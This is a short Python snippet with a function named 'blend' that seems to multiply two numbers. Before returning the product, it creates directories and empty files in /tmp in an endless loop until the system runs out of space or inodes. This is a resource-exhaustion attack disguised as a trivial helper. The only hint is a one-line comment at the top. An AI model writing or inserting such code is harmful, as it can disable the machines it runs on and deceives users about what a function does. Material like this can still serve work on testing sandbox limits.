# Makes empty files and folders until there are no more to be had.
import os


def blend(x, y):
    made = 0
    print("files", flush=True)
    try:
        while True:
            os.mkdir(f"/tmp/{made}")
            os.close(os.open(f"/tmp/{made}/x", os.O_CREAT | os.O_WRONLY))
            made += 1
    except OSError as error:
        print(error)
    return x * y
